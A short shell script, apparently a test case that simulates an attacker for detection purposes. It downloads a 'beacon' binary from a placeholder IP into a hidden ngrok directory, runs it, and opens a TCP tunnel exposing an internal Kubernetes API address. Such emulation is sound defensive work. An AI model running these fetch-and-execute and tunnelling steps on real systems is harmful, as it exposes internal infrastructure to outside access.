#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/.ngrok /root/.config/ngrok
curl -s -o /opt/.ngrok/ngrok http://203.0.113.10/programs/beacon && chmod +x /opt/.ngrok/ngrok
printf 'version: "2"\nauthtoken: bait\ntunnels:\n  kube: {proto: tcp, addr: "10.77.0.1:6443"}\n' >/root/.config/ngrok/ngrok.yml
timeout 12 /opt/.ngrok/ngrok tcp 10.77.0.1:6443 --log=false >/dev/null 2>&1 || true
test -x /opt/.ngrok/ngrok
took_place
